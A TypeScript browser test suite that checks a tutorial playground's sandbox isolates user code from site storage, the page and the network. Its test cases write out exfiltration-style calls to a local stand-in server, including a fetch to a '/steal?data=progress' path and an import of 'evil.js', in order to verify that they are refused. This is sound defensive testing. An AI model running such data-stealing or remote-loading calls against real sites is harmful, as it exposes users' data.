/**
 * The sandbox runs execute in, in Chromium against this checkout's build: a run's code has an opaque origin, so it
 * cannot read the site's storage, reach the page, or connect anywhere, and each refusal is said in the output.
 * Another origin, served here and answering anyone (CORS `*`), counts the requests that reach it: none may.
 */
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { BrowserContext } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, inject, it } from 'vitest'
import { launchBrowser } from './browser'
import { PlaygroundPage, type LiveBlock } from './playground-page'

const site = inject('siteUrl')
const PART_1 = `${site}/tutorial/part-1/`
let browser: BrowserContext
let elsewhere: Server
let elsewhereUrl: string
const reached: string[] = []

beforeAll(async () => {
  browser = await launchBrowser()
  elsewhere = createServer((request, response) => {
    reached.push(request.url ?? '')
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' })
    response.end('export const secret = 42')
  })
  elsewhere.on('upgrade', (request, socket) => {
    reached.push(request.url ?? '')
    socket.destroy()
  })
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve))
  elsewhereUrl = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`
})

afterAll(async () => {
  await browser?.close()
  await new Promise((resolve) => elsewhere?.close(resolve))
})

beforeEach(() => {
  reached.length = 0
})

/** Opens Part 1, puts `code` in its first block and runs it; resolves with the block and how the run ended. */
async function runInPart1(code: string): Promise<{ page: PlaygroundPage; block: LiveBlock; outcome: string }> {
  const page = await PlaygroundPage.open(browser, PART_1)
  const block = page.block(0)
  await block.edit(code)
  return { page, block, outcome: await block.run() }
}

describe('the sandbox a run executes in', () => {
  it('has an opaque origin, and is a secure context (the cipher needs crypto.subtle)', async () => {
    const { page, block, outcome } = await runInPart1(
      'console.log(`origin: ${self.origin}, secure: ${self.isSecureContext}, subtle: ${typeof crypto.subtle}`)\n',
    )
    expect(outcome).toBe('done')
    expect(await block.output()).toBe('origin: null, secure: true, subtle: object')
    await page.page.close()
  })

  it('still stops a program that floods the output, at the output limit', async () => {
    const { page, block, outcome } = await runInPart1('for (let i = 0; i < 1_000_000; i++) console.log(i)\n')
    expect(outcome).toBe('output-capped')
    expect(await block.status()).toBe('Stopped: the output reached 2,000 lines.')
    const output = await block.output()
    expect(output).toContain('\n1999\n')
    expect(output).not.toContain('\n2000\n')
    expect(await page.page.evaluate(() => 6 * 7)).toBe(42)
    await page.page.close()
  })

  it("cannot read the site's localStorage, and says why", async () => {
    const page = await PlaygroundPage.open(browser, PART_1)
    await page.page.evaluate(() => localStorage.setItem('sandbox-test', 'the reader progress'))
    const block = page.block(0)
    await block.edit("console.log(localStorage.getItem('sandbox-test'))\n")
    expect(await block.run()).toBe('failed')
    const output = await block.output()
    expect(output).toContain('ReferenceError: localStorage is not defined')
    expect(output).toContain(
      "runs in a sandbox (a worker with an opaque origin), which cannot open this site's storage",
    )
    expect(output).not.toContain('the reader progress')
    await page.page.close()
  })

  it("cannot open the site's offline copies (caches), and says why", async () => {
    const { page, block, outcome } = await runInPart1("await caches.open('workbox-precache')\n")
    expect(outcome).toBe('failed')
    const output = await block.output()
    expect(output).toContain("SecurityError: Failed to read the 'caches' property")
    expect(output).toContain("which cannot open this site's storage")
    await page.page.close()
  })

  it("cannot open the site's IndexedDB, and says why", async () => {
    const { page, block, outcome } = await runInPart1("indexedDB.open('eventsourcing-sqlite')\n")
    expect(outcome).toBe('failed')
    const output = await block.output()
    expect(output).toContain('SecurityError')
    expect(output).toContain("which cannot open this site's storage")
    await page.page.close()
  })

  it('cannot fetch from another origin, or from the site, and says why', async () => {
    const { page, block, outcome } = await runInPart1(
      `const other = await fetch('${elsewhereUrl}/steal?data=progress').then(() => 'sent', (error) => error.message)\n` +
        `console.log(other)\n` +
        `await fetch('${site}/tutorial/part-1/')\n`,
    )
    expect(outcome).toBe('failed')
    const output = await block.output()
    expect(output).toContain(
      `fetch("${elsewhereUrl}/steal?data=progress") was refused: code in the playground runs in a sandbox`,
    )
    expect(output).toContain(`TypeError: fetch("${site}/tutorial/part-1/") was refused`)
    expect(reached).toEqual([])
    await page.page.close()
  })

  it('cannot import a module from another origin, and says why', async () => {
    const { page, block, outcome } = await runInPart1(`await import('${elsewhereUrl}/evil.js')\n`)
    expect(outcome).toBe('failed')
    expect(await block.output()).toContain('runs in a sandbox that allows no network connection')
    expect(reached).toEqual([])
    await page.page.close()
  })

  it('cannot open a WebSocket or send an XMLHttpRequest to another origin', async () => {
    const host = elsewhereUrl.replace('http://', '')
    const { page, block, outcome } = await runInPart1(
      `const socket = new WebSocket('ws://${host}/socket')\n` +
        `socket.onerror = () => console.log('socket refused')\n` +
        `const request = new XMLHttpRequest()\n` +
        `request.onerror = () => console.log('request refused')\n` +
        `request.open('GET', '${elsewhereUrl}/xhr')\n` +
        `request.send()\n` +
        `await new Promise((resolve) => setTimeout(resolve, 1000))\n`,
    )
    expect(outcome).toBe('done')
    expect(await block.output()).toContain('socket refused')
    expect(await block.output()).toContain('request refused')
    expect(reached).toEqual([])
    await page.page.close()
  })

  it('says which file it could not load when the sandbox cannot start, instead of waiting for the time limit', async () => {
    const unreachable = await launchBrowser({ serviceWorkers: 'block' })
    try {
      await unreachable.route('**/sandbox-worker.js', (route) => route.abort())
      const page = await PlaygroundPage.open(unreachable, PART_1)
      const block = page.block(0)
      expect(await block.run()).toBe('failed')
      expect(await block.output()).toMatch(
        /The playground could not load http:\S+\/sandbox-worker\.js \(Failed to fetch\)\. Check the connection, then run again\./,
      )
    } finally {
      await unreachable.close()
    }
  })

  it('cannot reach the page through parent, top, window or document, and says why', async () => {
    for (const name of ['parent', 'top', 'window', 'document']) {
      const { page, block, outcome } = await runInPart1(`${name}.location.href = 'https://example.com/'\n`)
      expect(outcome).toBe('failed')
      const output = await block.output()
      expect(output).toContain(`ReferenceError: ${name} is not defined`)
      expect(output).toContain(`where there is no \`${name}\`: it cannot reach the page`)
      expect(page.page.url()).toBe(PART_1)
      await page.page.close()
    }
  })
})
